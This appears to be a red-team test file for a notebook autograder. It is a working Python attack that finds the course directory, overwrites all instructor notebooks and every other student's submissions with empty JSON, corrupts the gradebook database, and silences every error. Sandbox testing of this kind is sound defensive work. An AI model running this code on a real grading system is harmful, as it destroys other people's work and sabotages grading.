# Red-team attack 01 (issue 7): overwrite the course's files from a notebook cell.
# The course folder is found twice over, as a student who has read the repository would:
# through the grader package the worker has imported (`autograder.__file__`), and by walking
# up from the working directory to the folder holding nbgrader_config.py. Every instructor
# notebook becomes `{}`, the gradebook becomes junk, and every other student's submitted
# notebook is overwritten. Each write fails silently when it is blocked.


def _course_folders():
    import os
    import sys
    from pathlib import Path

    found = []
    package = sys.modules.get("autograder")
    if package is not None and getattr(package, "__file__", None):
        found.append(Path(package.__file__).resolve().parents[1])
    here = Path(os.getcwd()).resolve()
    for folder in [here, *here.parents]:
        if (folder / "nbgrader_config.py").is_file():
            found.append(folder)
            break
    return list(dict.fromkeys(found))


def _overwrite(path, data):
    try:
        path.write_bytes(data)
    except Exception:
        pass


def _overwrite_course():
    import os
    from pathlib import Path

    me = Path(os.getcwd()).resolve().parent.name  # the work dir holds <student>/scratch
    for course in _course_folders():
        for folder in ("source", "release", "solutions"):
            for notebook in (course / folder).rglob("*.ipynb"):
                _overwrite(notebook, b"{}")
        _overwrite(course / "gradebook.db", b"not a gradebook any more")
        for notebook in (course / "submitted").rglob("*.ipynb"):
            if me not in notebook.relative_to(course / "submitted").parts[:1]:
                _overwrite(notebook, b"{}")


try:
    _overwrite_course()
except Exception:
    pass
